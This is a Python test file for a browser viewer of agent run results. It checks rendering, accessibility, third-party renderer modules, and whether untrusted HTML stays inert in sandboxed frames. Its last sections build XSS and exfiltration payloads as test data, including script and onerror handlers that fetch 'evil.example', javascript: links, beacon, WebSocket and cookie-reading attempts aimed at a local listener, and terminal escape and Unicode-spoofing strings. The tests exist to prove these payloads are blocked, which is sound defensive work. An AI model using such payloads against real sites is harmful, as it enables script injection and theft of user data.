"""Every kind of result in a browser: what it looks like, who else may draw it, and what HTML cannot do."""

from __future__ import annotations

import base64
import threading
from collections.abc import Iterator
from pathlib import Path
from socket import create_server
from typing import Any

import pytest

from antiphon.durable import Journal
from antiphon.results import (
    Display,
    Result,
    diff,
    error,
    file_content,
    file_list,
    image,
    question,
    structured,
    table,
    terminal,
    text,
)
from tests.terminal.cases import CASES
from tests.web.browser import Site
from tests.web.journals import ask, begun, put, say, show, want
from tests.web.tabs import AXE, Tab

MARKDOWN = """# Release

**bold**, ~~gone~~, [a link](https://example.com), [a trick](javascript:alert(1)), `code`

- [x] done
- [ ] open

> quoted

```vibe
const mail: text = do "Who wrote {letter}?" local // ask
```

| name | size |
|------|-----:|
| a    |   12 |
"""
PAGE = "<!doctype html><title>t</title><h1>Report</h1><p id=p>still</p><script>p.textContent = 'lively'</script>"
SVG = (
    "<svg xmlns='http://www.w3.org/2000/svg' width='90' height='40'><circle cx='20' cy='20' r='16' fill='teal'/></svg>"
)
TYPES = {"when": "date", "site": "url", "file": "path", "count": "number"}
ROW = {"when": "2026-11-17T10:00:00Z", "site": "https://example.com/a", "file": "src/a.py", "count": 1234567.25}
#: What the table of cases has not: every look once more, in sizes and nestings that could break it.
MORE: dict[str, Result] = {
    "markdown_all": text(MARKDOWN, markdown=True),
    "html": Result("text", {"content": "<!doctype html><h1>Report</h1>"}, "a report", "text/html"),
    "svg": image(base64=base64.b64encode(SVG.encode()).decode(), mime_type="image/svg+xml", alt="a circle"),
    "nested": Result("acme.suite", {"unit": text("passed", summary="unit tests"), "n": 3}, "two parts"),
    "ordered": structured([text("low", summary="low"), text("high", summary="high", priority=5)], summary="both"),
    "table_types": table([ROW] * 8, field_types=TYPES),
    "tree_types": structured({**ROW, "bad": "x", "list": [1, 2.5, None]}, field_types={**TYPES, "bad": "url"}),
    "tree_wide": structured({f"key_{n}": {"n": n} for n in range(40)}, summary="40 keys"),
    "diff_code": diff("src/greet.py", "def greet():\n    print(1)\n", "def greet(name):\n    print(name)\n"),
    "diff_text": Result("acme.patch", "--- a/x\n+++ b/x\n@@ -1 +1 @@\n-old\n+new\n", mime_type="text/x-diff"),
    "file_long": file_content("src/long.py", "".join(f"value_{n} = {n}  # {'x' * 200}\n" for n in range(12))),
    "error_text": error("wrong", details='Traceback:\n  File "a.py", line 1'),
    "question_open": question("Which?", options=["this", "that"]),
    "status_conflict": Result("git.status", {"branch": "x", "modified": ["c"], "conflicted": ["c"]}, "busy"),
    "mcp": Result("mcp.result", {"content": [{"type": "text", "text": "two"}, {"type": "text", "text": "blocks"}]}),
    "files_empty": file_list("data", []),
    "table_empty": table([], ["a", "b"]),
    "text_empty": text(""),
}
KINDS = {**CASES, **MORE}


@pytest.fixture(scope="module")
def gallery(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    """A run in which every kind is."""
    journal = Journal(tmp_path_factory.mktemp("kinds") / "logs.db")
    running = begun(journal, "kinds", "All kinds")
    for number, (name, result) in enumerate(KINDS.items(), 1):
        show(running, str(number), result, name)
    running.finish("done")
    site = Site(journal)
    yield site
    site.stop()
    journal.close()


def opened(tab: Tab, where: str, count: int) -> Any:
    """A run with all its steps and all their results open."""
    page = tab.go(where)
    page.wait_for_selector(f"[data-path='{count}']", state="attached")
    page.wait_for_function(
        """() => { let left = 0;
        for (const each of document.querySelectorAll('.step > details')) each.open = true;
        for (const each of document.querySelectorAll('.step:has(> details:not(.inner))')) {
            if (!each.querySelector('.opened') && !left++) each.scrollIntoView(); }
        return left === 0; }"""
    )
    page.evaluate("() => { for (const each of document.querySelectorAll('.opened .result')) each.open = true; }")
    return page


def at(name: str) -> str:
    return f"[data-path='{list(KINDS).index(name) + 1}']"


# How they look


@pytest.fixture(scope="module")
def page(browser: Any, gallery: Site) -> Iterator[Any]:
    """That run, with all that is in it open."""
    tab = Tab(browser, gallery, reduced_motion="reduce")
    yield opened(tab, "sessions/kinds", len(KINDS))
    tab.close()
    assert tab.complaints == []


def test_kinds_look_as_they_should(page: Any):
    def said(name: str, selector: str = ".body") -> list[str]:
        return [each.strip() for each in page.locator(f"{at(name)} .result {selector}").all_text_contents()]

    lefts = (
        """(all) => all.map((row) => [...row.children].map((each) => Math.round(each.getBoundingClientRect().left)))"""
    )
    rows = page.locator(f"{at('file_list')} .files tr").evaluate_all(lefts)
    assert len(rows) == 5
    assert all(each == rows[0] for each in rows)
    page.wait_for_selector(f"{at('table_types')} td", state="attached")
    whole = "(all) => all.every((each) => each.scrollWidth <= each.clientWidth)"
    assert page.locator(f"{at('table_types')} td").evaluate_all(whole)
    assert page.locator(f"{at('table_types')} td").count() == 32
    cells = [said("table_types", f"tr:nth-child(1) td:nth-child({n})")[0] for n in range(1, 5)]
    assert cells == ["2026-11-17 10:00:00 UTC", "https://example.com/a", "src/a.py", "1,234,567.25"]
    assert page.locator(f"{at('tree_types')} .tree a").all_text_contents() == ["https://example.com/a"]
    assert "list: [1, 2.5, null]" in said("tree_types", ".leaf")
    assert page.locator(f"{at('tree_wide')} .tree > details").get_attribute("open") is not None
    assert page.locator(f"{at('tree_wide')} .nodes .nodes").count() == 0
    assert said("ordered", "summary .about") == ["both", "high", "low"]
    assert said("mcp", "summary .about")[0] == "two"
    assert said("text_empty") == ["(empty)"]
    assert page.locator(f"{at('custom_without_data')} .body").count() == 0
    assert said("diff_new_file", ".file") == ["+3new file"]
    assert page.locator(f"{at('file_content')} .about").text_content() == "src/double.py, 3 lines"
    page.click(f"{at('diff_text')} .ways button >> nth=1")
    paired = page.locator(f"{at('diff_text')} table.paired tr").all_text_contents()
    assert paired == ["--- a/x", "+++ b/x", "@@ -1 +1 @@", "1old1new"]
    wide = page.locator(f"{at('diff_text')} .paired tr:last-child td").evaluate_all(
        "(all) => all.map((each) => each.clientWidth)"
    )
    assert wide[0] * 5 < wide[1]
    for name in ("error", "terminal_failed"):
        assert page.locator(f"{at(name)} summary .dot").first.get_attribute("aria-label") == "failed"
    markdown = page.locator(f"{at('markdown_all')} .markdown")
    # What is no link that may be followed stays as it was written.
    assert "[a trick](javascript:alert(1))" in (markdown.text_content() or "")
    assert markdown.locator("a").count() == 1
    assert markdown.locator("td").nth(1).evaluate("(cell) => getComputedStyle(cell).textAlign") == "right"
    page.wait_for_selector(f"{at('markdown_all')} pre .t-k >> text=const")
    seen = "(box) => [box.clientHeight, parseFloat(getComputedStyle(box.querySelector('.line')).lineHeight)]"
    height, line = page.locator(f"{at('text_max_height')} .limited").evaluate(seen)
    assert 3 <= height / line < 5


def test_no_kind_has_a_barrier_in_either_theme(page: Any):
    page.click(f"{at('html')} .framed button >> nth=1")
    page.click(f"{at('diff_code')} .ways button >> nth=1")
    page.frame_locator(f"{at('html')} iframe").locator("h1").wait_for()
    page.wait_for_selector(f"{at('markdown_all')} pre .t-k")
    # What is not in sight is not drawn, and colours of what is not drawn are not looked at.
    page.evaluate(
        """() => { const style = new CSSStyleSheet(); style.replaceSync('* { content-visibility: visible !important }');
        document.adoptedStyleSheets.push(style); }"""
    )
    page.evaluate(AXE.read_text())
    for scheme, only in (("light", ""), ("dark", "color-contrast")):
        page.emulate_media(color_scheme=scheme)
        found = page.evaluate(
            """(only) => axe.run(document, { iframes: false, resultTypes: ['violations'],
            ...(only && { runOnly: [only] }) })""",
            only,
        )
        assert [(each["id"], [node["target"] for node in each["nodes"]]) for each in found["violations"]] == []
    page.set_viewport_size({"width": 360, "height": 700})
    assert page.evaluate("() => document.documentElement.scrollWidth <= innerWidth")


# Who else draws them


def test_modules_of_others_draw_and_a_broken_one_is_told(browser: Any, journal: Journal, tmp_path: Path):
    register = 'import { ResultRenderers, html } from "antiphon";\nResultRenderers.register('
    (tmp_path / "a.js").write_text(
        f'{register}"acme.report", ({{ data }}) => html`<b class=own>A ${{data.name}}</b>`);'
    )
    (tmp_path / "b.js").write_text(
        f'{register}"acme.report", ({{ data }}) => html`<b class=own>B ${{data.name}}</b>`);'
    )
    (tmp_path / "c.js").write_text(
        f'{register}"git.status", ({{ data, Standard }}) => html`<i>${{data.branch}}</i><${{Standard}} />`);'
    )
    (tmp_path / "d.js").write_text("this is no module")
    (tmp_path / "e.js").write_text(f'{register}"Not A Kind", () => null);')
    (tmp_path / "f.js").write_text("await new Promise(() => {});")
    (tmp_path / "g.js").write_text(f'{register}"table", () => {{ throw new Error("<b>no</b>"); }});')
    running = begun(journal, "r")
    show(running, "1", structured([Result("acme.report", {"name": "<i>Q3</i>"})], summary="inside"))
    show(running, "2", Result("git.status", {"branch": "main", "staged": ["a.py"]}))
    show(running, "3", table([{"a": 1}], collapsed=False))
    site = Site(journal, renderers=tmp_path)
    tab = Tab(browser, site)
    page = opened(tab, "sessions/r", 3)
    assert page.locator(".own").all_inner_texts() == ["B <i>Q3</i>"]
    page.wait_for_selector("[data-path='2'] i >> text=main")
    page.wait_for_selector("[data-path='2'] .status >> text=a.py")
    # It comes after one that never ends: what is drawn already is drawn anew, and as it was, for it fails.
    page.wait_for_selector("[data-path='3'] >> text=The custom renderer failed: Error: <b>no</b>")
    page.wait_for_selector("[data-path='3'] .table")
    told = page.locator(".banner").all_inner_texts()
    assert [each.split(": ")[0] for each in told] == [
        f"The renderer module renderers/0/{name}.js could not be loaded" for name in "de"
    ]
    assert tab.complaints == told
    tab.close()
    site.stop()


# What HTML can do: nothing


class Listener:
    """A place elsewhere, that hears whoever comes."""

    def __init__(self) -> None:
        self.heard: list[bytes] = []
        self._socket = create_server(("127.0.0.1", 0))
        self.url = f"http://127.0.0.1:{self._socket.getsockname()[1]}"
        threading.Thread(target=self._listen, daemon=True).start()

    def _listen(self) -> None:
        while True:
            try:
                one, _ = self._socket.accept()
            except OSError:
                return
            threading.Thread(target=lambda one=one: self.heard.append(one.recv(1000)), daemon=True).start()

    def close(self) -> None:
        self._socket.close()


def hostile_pages(url: str) -> list[str]:
    links = "".join(
        f"<link rel={each} href={url}/{each}>" for each in ("stylesheet", "prefetch", "modulepreload", "icon")
    )
    tries = (
        f"parent.document.title = 'owned'; top.location = '{url}/top'; fetch('{url}/fetch'); fetch('/api/sessions');"
        f"navigator.sendBeacon('{url}/beacon'); new WebSocket('{url}'.replace('http', 'ws')); open('{url}/open');"
        f"alert(1); localStorage.x = 1; document.cookie; document.forms[0].submit(); new Image().src = '{url}/image';"
        f"import('{url}/import'); new Worker('{url}/worker'); parent.location.hash; top.postMessage('x', '*')"
    ).split(";")
    script = "".join(f"try {{ {each} }} catch (error) {{ said.push(error.name) }}" for each in tries)
    return [
        f"{links}<base href={url}/><img src={url}/img><object data={url}/o></object><embed src={url}/e>"
        f"<iframe src={url}/frame></iframe><iframe srcdoc='<img src={url}/inner>'></iframe><video src={url}/v></video>"
        f"<style>@import '{url}/css'; body {{ background: url({url}/back) }}</style>",
        f"<form action={url}/form></form><p id=p></p><script>const said = []; {script} p.textContent = said</script>",
        f"<meta http-equiv=refresh content='0;url={url}/refresh'>",
        f"<script>location = '{url}/away'</script>",
        "<script>location = '/api/sessions'</script>",
    ]


def test_html_is_source_until_somebody_wants_a_page_and_then_it_can_do_nothing(
    browser: Any, site: Site, journal: Journal
):
    elsewhere = Listener()
    pages = [PAGE, *hostile_pages(elsewhere.url)]
    running = begun(journal, "r")
    for number, markup in enumerate(pages, 1):
        show(running, str(number), Result("text", {"content": markup}, mime_type="text/html", title=markup[:90]))
    running.finish("done")
    tab = Tab(browser, site)
    page = opened(tab, "sessions/r", len(pages))
    page.wait_for_selector(f"[data-path='{len(pages)}'] .code", state="attached")
    assert page.locator(".code").count() == len(pages)
    assert page.locator("iframe").count() == 0
    assert tab.complaints == []
    for way, sandbox in ((1, ""), (2, "allow-scripts")):
        for number in range(1, len(pages) + 1):
            page.click(f"[data-path='{number}'] .framed button >> nth={way}")
        first, second = (page.frame_locator(f"[data-path='{n}'] iframe") for n in (1, 3))
        first.locator("#p", has_text=("still", "lively")[way - 1]).wait_for()
        assert {each.get_attribute("sandbox") for each in page.locator("iframe").all()} == {sandbox}
        page.wait_for_timeout(400)
    assert second.locator("#p").inner_text().split(",") == ["SecurityError"] * 6
    assert "owned" not in page.title()
    assert page.url.endswith("#/sessions/r")
    assert len(tab.context.pages) == 1
    assert [each for each in elsewhere.heard if each] == []
    # What a browser refuses it also tells; nothing but refusals was told. Requests were begun, and not sent.
    words = (f"a request to {elsewhere.url}/", "violates", "Failed to fetch", "Refused", "Blocked", "blocked",
             "Ignored call", "Unsafe attempt", "401", "sandboxed")  # fmt: skip
    assert [each for each in tab.complaints if not any(word in each for word in words)] == []
    tab.close()
    elsewhere.close()


# What nothing in a result can do

SCRIPT = "document.title='owned';fetch('https://evil.example/')"
HOSTILES = [
    f'<script>{SCRIPT}</script><img src=https://evil.example/p.png onerror="{SCRIPT}">',
    f"[a](javascript:{SCRIPT}) ![p](https://evil.example/p.png) [r]: https://evil.example <https://evil.example>",
    f'"></title></pre></code></textarea><svg onload="{SCRIPT}"><base href=https://evil.example/>',
    "\x1b]0;owned\x07\x1b[2J\u202egnp.exe\u2066 a\u200bb\u2028c\x00\x9b31m ${title} {{title}} %s __proto__ constructor",
]


def hostile_results(words: str) -> Iterator[Result]:
    """Everything that a result can say, said by somebody hostile; names and titles too."""
    title: dict[str, Any] = {"title": words}
    inner = {words: text(words, summary=words), "list": [table([{words: words}]), error(words, details={words: words})]}
    yield Result("acme.suite", inner, words, **title)
    yield Result("text", {"content": words}, words, words, **title)
    yield Result("text", {"content": words}, words, "text/html", **title)
    yield error(words, details=words)
    yield Result("question", {"question": words, "options": [words], "answer": words}, words, **title)
    yield terminal(words, words * 40, exit_code=2)
    yield file_list(
        words, [{"name": words, "type": kind, "modified": words} for kind in ("file", "directory", "symlink")]
    )
    yield diff(words, f"{words}\n", f"{words}!\n")
    yield Result("diff", {"path": words, "hunks": [{"oldStart": words, "lines": [words, f"+{words}"]}]}, words)
    yield Result("acme.patch", f"@@ {words} @@\n+{words}\n", mime_type="text/x-patch", **title)
    yield Result("git.status", {"branch": words, "staged": [words], "conflicted": [words]}, words)
    yield table([{words: words, "t": words}], [{"key": words, "label": words}, {"key": "t", "type": "url"}])
    yield structured({words: [words], "u": f"JaVaScRiPt:{words}"}, field_types={"u": "url", words: "date"})
    yield image(base64=base64.b64encode(f"<svg xmlns='http://www.w3.org/2000/svg'>{words}</svg>".encode()).decode(),
                mime_type="image/svg+xml", alt=words)  # fmt: skip
    yield image(url=f"javascript:{words}", alt=words)
    yield file_content(words, words, language=words)
    yield text(
        f"```{words}\n{words}\n```\n# {words}\n- {words}\n> {words}\n\n| {words} |\n|---|\n| {words} |", markdown=True
    )
    yield Result("value", words, words, display=Display("tree", collapsed=True, priority=1))


def test_nothing_hostile_does_anything_wherever_it_stands(tab: Tab, journal: Journal):
    running = begun(journal, "r", HOSTILES[0])
    results = [each for words in HOSTILES for each in hostile_results(words)]
    for number, result in enumerate(results, 1):
        words = HOSTILES[number % len(HOSTILES)]
        show(
            running,
            str(number),
            result,
            words,
            {words: words, "path": words, "old": words, "new": "x", "n": {words: 1}},
        )
    put(running, "x1", HOSTILES[0])
    say(running, "x2", HOSTILES[1])
    ask(running, "x3", HOSTILES[2])
    want(running, "x4", "rm", {HOSTILES[3]: HOSTILES[0], "path": HOSTILES[3], "old": "a", "new": HOSTILES[2]})
    running.finish("waiting", {"error": {"message": HOSTILES[0]}})
    page = opened(tab, "sessions/r", len(results))
    page.evaluate("() => { for (const each of document.querySelectorAll('details')) each.open = true; }")
    page.wait_for_function(
        "() => [...document.querySelectorAll('.raw:not(.shown)')].every((each) => each.querySelector('.code'))"
    )
    for _ in range(3):
        page.evaluate(
            "() => { for (const each of document.querySelectorAll('details:not([open])')) each.open = true; }"
        )
    page.wait_for_timeout(300)
    whole = page.evaluate("() => document.body.textContent")
    assert not [each for each in "\x00\x1b\x07\x9b\u202e\u2066\u200b\u2028" if each in whole]
    bad = """() => [...document.querySelectorAll('a[href], iframe, object, embed, base, main script, main style, img,'
        + '[onload], [onerror]')].filter((each) => !/^(#|https?:|mailto:|blob:)/.test(each.getAttribute('href')
        ?? each.src)).map((each) => each.outerHTML)"""
    assert page.evaluate(bad) == []
    for where in ("sessions", "questions"):
        tab.go(where).wait_for_selector("main li, [data-about=approval]")
    assert "owned" not in page.title()
